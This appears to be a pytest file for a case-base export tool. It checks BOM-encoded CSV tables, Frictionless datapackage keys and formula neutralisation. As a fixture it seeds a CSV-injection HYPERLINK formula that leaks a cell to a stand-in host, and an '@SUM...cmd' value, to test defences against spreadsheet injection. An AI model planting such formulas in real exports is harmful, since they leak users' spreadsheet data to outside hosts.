"""`workbench export`: BOM-encoded CSV tables described by a Frictionless datapackage."""

from __future__ import annotations

import json
import re
import shutil

import pandas as pd
import pytest

from analysis.export import SECTION_COLUMNS, export_tables, neutralise_formulas

TABLES = [
    "sources",
    "cases",
    "codebook",
    "codings",
    "evidence",
    "indicators",
    "outcomes",
    "context",
    "drivers",
    "problems",
    "recommendations",
    "links",
    "coder_codings",
]


def test_export_writes_every_table_with_bom(casebase, tmp_path):
    paths = export_tables(casebase, tmp_path)
    assert [p.name for p in paths] == [f"{t}.csv" for t in TABLES] + ["datapackage.json"]
    for t in TABLES:
        raw = (tmp_path / f"{t}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), t
    codings = pd.read_csv(tmp_path / "codings.csv", encoding="utf-8-sig")
    assert list(codings.columns) == ["case_id", "code", "score", "status", "rationale"]
    assert len(codings) == len(casebase.cases) * len(casebase.codebook.codes)
    # Missing is not zero: not_reported has an empty score, every other status a number.
    silent = codings["status"] == "not_reported"
    assert silent.any()
    assert codings.loc[silent, "score"].isna().all()
    assert codings.loc[~silent, "score"].notna().all()
    ev = pd.read_csv(tmp_path / "evidence.csv", encoding="utf-8-sig")
    assert set(ev["item_kind"]) <= {"mechanism", "indicator", "outcome", "practice"}
    # Every exported quote is still the exact span of its source.
    src = {s.id: casebase.texts[s.id] for s in casebase.sources.values()}
    for row in ev.itertuples():
        assert src[row.source_id][row.start : row.end] == row.quote
    for name, cols in SECTION_COLUMNS.items():
        df = pd.read_csv(tmp_path / f"{name}.csv", encoding="utf-8-sig")
        assert list(df.columns) == [*cols, "source", "start", "end", "quote"]
    cc = pd.read_csv(tmp_path / "coder_codings.csv", encoding="utf-8-sig")
    assert list(cc.columns) == [
        "coder",
        "case_id",
        "kind",
        "item",
        "score",
        "status",
        "claim_strength",
    ]
    # Every coder x case x code, and the historical codings' not_reported is empty, not 0.
    mech = cc[cc["kind"] == "mechanism"]
    n_codings = len(casebase.cases) + sum(len(v) for v in casebase.codings.values())
    assert len(mech) == n_codings * len(casebase.codebook.codes)
    assert mech.loc[mech["status"] == "not_reported", "score"].isna().all()
    assert set(cc["kind"]) <= {"mechanism", "outcome"}
    assert cc.loc[cc["kind"] == "outcome", "claim_strength"].notna().all()


def test_datapackage_keys_resolve(casebase, tmp_path):
    export_tables(casebase, tmp_path)
    dp = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    by_name = {r["name"]: r for r in dp["resources"]}
    assert set(by_name) == set(TABLES)
    for res in dp["resources"]:
        df = pd.read_csv(tmp_path / res["path"], encoding="utf-8-sig")
        assert [f["name"] for f in res["schema"]["fields"]] == list(df.columns)
        pk = res["schema"].get("primaryKey")
        if pk:
            assert not df.duplicated(pk).any(), res["name"]
        for fk in res["schema"].get("foreignKeys", []):
            target = pd.read_csv(
                tmp_path / f"{fk['reference']['resource']}.csv", encoding="utf-8-sig"
            )
            assert set(df[fk["fields"]]) <= set(target[fk["reference"]["fields"]]), (
                res["name"],
                fk,
            )


FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _casebase_with_formulas(tmp_path, seeds):
    """A copy of the case base whose first rationale and English case name are formulas."""
    from analysis.casebase import load_casebase

    from .conftest import CASEBASE

    copy = tmp_path / "casebase"
    shutil.copytree(CASEBASE, copy)
    case = sorted((copy / "cases").glob("*.yaml"))[0]
    text = case.read_text(encoding="utf-8")
    text = re.sub(
        r"(?m)^(\s*rationale: ).*$", lambda m: m.group(1) + json.dumps(FORMULA), text, count=1
    )
    text = re.sub(r"(?m)^(name_en: ).*$", r"\1'@SUM(1+1)*cmd'", text, count=1)
    case.write_text(text, encoding="utf-8")
    return load_casebase(copy, seeds), case.stem


def test_formulas_are_neutralised_numbers_kept(tmp_path, seeds):
    cb, case_id = _casebase_with_formulas(tmp_path, seeds)
    out = tmp_path / "tables"
    export_tables(cb, out)
    codings = pd.read_csv(out / "codings.csv", encoding="utf-8-sig", keep_default_na=False)
    assert "'" + FORMULA in codings["rationale"].tolist()
    assert FORMULA not in codings["rationale"].tolist()
    assert not codings["rationale"].str.match(r"[=+\-@\t\r]").any()
    cases = pd.read_csv(out / "cases.csv", encoding="utf-8-sig").set_index("case_id")
    assert cases.loc[case_id, "name_en"] == "'@SUM(1+1)*cmd"
    # Numbers stay numbers (an empty score is a not_reported mechanism: missing).
    scores = codings["score"]
    assert pd.to_numeric(scores[scores != ""]).notna().all()
    assert (scores[codings["status"] == "not_reported"] == "").all()


def test_neutralising_leaves_negative_numbers_alone():
    df = pd.DataFrame({"value": [-2.5, 3.0], "unit": ["-5", "+x"], "quote": ["\tTAB", "-- a dash"]})
    out = neutralise_formulas(df)
    assert out["value"].tolist() == [-2.5, 3.0]
    assert out["unit"].tolist() == ["-5", "'+x"]
    assert out["quote"].tolist() == ["'\tTAB", "'-- a dash"]


def test_datapackage_validates_with_frictionless(tmp_path, seeds):
    frictionless = pytest.importorskip("frictionless")
    cb, _ = _casebase_with_formulas(tmp_path, seeds)
    export_tables(cb, tmp_path / "tables")
    report = frictionless.validate(str(tmp_path / "tables" / "datapackage.json"))
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "note"])[:5]
